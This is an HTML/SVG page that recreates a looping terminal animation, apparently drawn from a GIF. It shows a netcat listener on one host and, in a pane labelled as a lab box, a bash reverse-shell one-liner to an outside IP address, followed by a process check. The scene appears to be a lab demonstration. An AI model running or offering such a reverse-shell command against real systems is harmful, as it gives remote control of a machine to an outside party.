
These frames come from a looping animation (1055 by 531 pixels, 8000 ms). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminals</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #0c0c0c; }
svg { display: block; width: 100%; height: 100%; }
text { white-space: pre; text-rendering: geometricPrecision; }
.term { font: 11.046px "DejaVu Sans Mono", monospace; fill: #ccc; stroke: #ccc; stroke-width: .22; }
.red { fill: #e74856; stroke: #e74856; }
.title { font: 600 8.2px "Open Sans", "Noto Sans", sans-serif; fill: currentColor; }
.line { fill: none; stroke: currentColor; stroke-width: .9; }
.caret { fill: #bbb; }

/* 1% = 80 ms */
.loop { animation: 8s step-end infinite; }
#barRight { animation-name: dim; }
#shadeBottom { animation-name: before; }
#shadeTop { animation-name: after; }
#command { animation-name: command; }
#output { animation-name: output; }
#caret1 { animation-name: caret1; }
#caret2 { animation-name: caret2; }
#caret3 { animation-name: caret3; }
#mark { animation-name: mark; transform-box: fill-box; transform-origin: 0 0; mix-blend-mode: plus-lighter; }
#pointer { animation: show 8s step-end infinite, move 8s linear infinite; }

@keyframes dim { 0% { color: #fff; } 6.6%, 100% { color: #c4c4c4; } }
@keyframes before { 0% { opacity: 1; } 6.6%, 100% { opacity: 0; } }
@keyframes after { 0% { opacity: 0; } 6.6%, 100% { opacity: 1; } }
@keyframes command { 0% { opacity: 0; } 15.6%, 100% { opacity: 1; } }
@keyframes output { 0% { opacity: 0; } 35.6%, 100% { opacity: 1; } }
@keyframes caret1 { 0%, 15.6%, 100% { opacity: 0; } 13.45% { opacity: 1; } }
@keyframes caret2 { 0%, 23.58%, 35.6%, 100% { opacity: 0; } 16.45%, 30.35% { opacity: 1; } }
@keyframes caret3 {
  0%, 43.35%, 56.6%, 70%, 85.08%, 95.9%, 100% { opacity: 0; }
  35.6%, 49.95%, 63.2%, 76.6%, 89.8% { opacity: 1; }
}
@keyframes mark {
  0%, 88.6%, 100% { transform: scaleX(0); }
  77.4% { transform: scaleX(.16667); }
  78.4% { transform: scaleX(.33333); }
  79.2% { transform: scaleX(.5); }
  80% { transform: scaleX(.66667); }
  80.8% { transform: scaleX(.83333); }
  85.08% { transform: scaleX(1); }
}
@keyframes show {
  0%, 35.6%, 100% { opacity: 0; }
  3.7% { opacity: .45; }
  4.45%, 52.5% { opacity: 1; }
}
@keyframes move {
  0%, 3.75% { transform: translate(895px, 203px); }
  4.5%, 35.6% { transform: translate(894px, 201px); }
  35.61%, 52.5% { transform: translate(857px, 166px); }
  55% { transform: translate(838px, 110px); }
  57.5%, 61.6% { transform: translate(826px, 87px); }
  64.1% { transform: translate(660px, 129px); }
  66% { transform: translate(590px, 131px); }
  68% { transform: translate(579px, 126px); }
  71.6%, 72.4% { transform: translate(602px, 121px); }
  72.5%, 76.6% { transform: translate(601px, 120px); }
  80.9%, 84.4% { transform: translate(630px, 118px); }
  85.08%, 88.6% { transform: translate(637px, 118px); }
  91%, 94.3% { transform: translate(785px, 168px); }
  95.9%, 100% { transform: translate(786px, 167.5px); }
}
</style>
</head>
<body>
<svg viewBox="0 0 1055 531" preserveAspectRatio="none">
  <defs>
    <linearGradient id="down" x2="0" y2="1">
      <stop stop-color="#000" stop-opacity=".42"/><stop offset="1" stop-color="#000" stop-opacity=".06"/>
    </linearGradient>
    <linearGradient id="left" x1="1" x2="0">
      <stop stop-color="#000" stop-opacity=".4"/><stop offset="1" stop-color="#000" stop-opacity="0"/>
    </linearGradient>
    <g id="tab">
      <path d="M-1 288q3 0 3-4v-13q0-5 5-5h156q5 0 5 5v13q0 4 3 4v1h-172z" fill="#0c0c0c"/>
      <rect x="10" y="273" width="8.5" height="8.5" fill="#3465b4"/>
      <path class="line" d="M150.5 274.2l6 6m0-6l-6 6M179 277.3h7m-3.5-3.5v7M200.5 276.2l2.6 2.6 2.6-2.6"/>
    </g>
    <path id="buttons" class="line" d="M443.8 273.8h8M476.6 270.7h6.6v6.6h-6.6zM508.2 270.3l7.4 7.4m0-7.4l-7.4 7.4"/>
  </defs>

  <rect width="1055" height="531" fill="#0c0c0c"/>

  <g fill="#333">
    <path d="M168 0H527V5.5H171q-3 0-3-4zM0 0h2q0 4-2 5z"/>
    <path d="M700 0H1055V5.5H703q-3 0-3-4zM529 0h5v2q0 3-3 3.5h-2z"/>
    <path d="M0 261H528v27H0zM529 261h526v27H529z"/>
  </g>
  <rect y="261" width="528" height="27" fill="url(#down)"/>
  <rect id="shadeBottom" class="loop" x="516" y="261" width="12" height="27" fill="url(#left)"/>
  <g id="shadeTop" class="loop">
    <rect x="529" y="261" width="526" height="27" fill="url(#down)"/>
    <rect x="516" width="11" height="5.5" fill="url(#left)"/>
  </g>

  <g color="#f0f0f0">
    <use href="#tab"/>
    <use href="#buttons"/>
    <text class="title" x="26" y="280.3">root@untrusted-cliff-portal:</text>
  </g>
  <g id="barRight" class="loop">
    <use href="#tab" x="532.5"/>
    <text class="title" x="559" y="280.3">root@our-lab-box: ~</text>
  </g>
  <use href="#buttons" x="530.5" color="#f0f0f0"/>

  <path d="M527.5 0V260M528.5 261V531M0 260.2H1055" fill="none" stroke="#6c6c6c"/>
  <path d="M522.5 230v16M523.5 490.5v38M1054.3 230v16M1054.3 513v15" fill="none" stroke="#8c8c8c" stroke-width="1.3"/>

  <g id="screen" class="term"></g>
  <g id="command" class="term loop"></g>
  <g id="output" class="term loop"></g>
  <rect id="mark" class="loop" x="599.8" y="113.4" width="39.9" height="12.8" fill="#8c8c8c"/>

  <rect class="caret" x="134.5" y="49.5" width="1" height="13"/>
  <rect id="caret1" class="caret loop" x="699" y="75" width="1" height="13"/>
  <rect id="caret2" class="caret loop" x="826" y="75" width="1" height="13"/>
  <rect id="caret3" class="caret loop" x="699" y="151" width="1" height="13"/>

  <path id="pointer" d="M0 0V9.2L2.1 7.3 3.5 10.4 5 9.7 3.7 6.7H6.6Z" fill="#fff" stroke="#000" stroke-width=".6"/>
</svg>

<script>
const CELL = 6.65, LINE = 12.77;
const evil = "root@untrusted-cliff-portal:~# ";
const app = "root@our-lab-box:~";
const work = app + "/work# ";
const ps = "ps -aux | grep bash";

// Text between asterisks is red.
function print(id, x, y, lines) {
  const group = document.getElementById(id);
  lines.forEach((line, row) => {
    const text = document.createElementNS(group.namespaceURI, "text");
    text.setAttribute("x", x);
    text.setAttribute("y", y + row * LINE);
    line.split("*").forEach((part, i) => {
      const span = document.createElementNS(group.namespaceURI, "tspan");
      span.textContent = part;
      if (i % 2) span.setAttribute("class", "red");
      text.append(span);
    });
    group.append(text);
  });
}

const proc = (pid, cpu, mem, vsz, rss, tty, stat, start, cmd) =>
  `root      ${pid}  ${cpu}  ${mem}   ${vsz}  ${rss} pts/${tty}    ${stat.padEnd(4)} ${start}   0:00 ${cmd}`;
const grep = (pid, start) =>
  [proc(pid, "0.0", "0.1", 7076, 2048, 0, "S+", start, "grep --co"), "lor=auto *bash*"];

const TOP = 21.1, RIGHT = 533.2;
print("screen", 1.4, TOP, [
  evil + "nc -nl -p 4242 -vvv",
  "Listening on 0.0.0.0 4242",
  "Connection received on 207.154.209.99 57798",
  app + "# "
]);
print("screen", 1.4, 304, [evil]);
print("screen", 534.2, 304, [app + "# bash -i >& /dev/tcp/64.226.92.57/4242 0>&1"]);
print("screen", RIGHT, TOP, [
  work + ps,
  proc(159936, "0.0", "0.2", 9192, 5504, 0, "Ss", "08:00", "-*bash*"),
  proc(160740, "0.1", "0.2", 9060, 5376, 1, "Ss+", "09:09", "-*bash*"),
  ...grep(160750, "09:09"),
  work
]);
print("command", RIGHT + work.length * CELL, TOP + 5 * LINE, [ps]);
print("output", RIGHT, TOP + 6 * LINE, [
  proc(159936, "0.0", "0.2", 9192, 5504, 0, "Ss", "08:00", "-*bash*"),
  proc(160740, "0.0", "0.2", 9060, 5376, 1, "Ss", "09:09", "-*bash*"),
  proc(160759, "0.0", "0.2", 8004, 4224, 1, "S+", "09:10", "*bash* -i"),
  ...grep(160771, "09:10"),
  work
]);
</script>
</body>
</html>
```
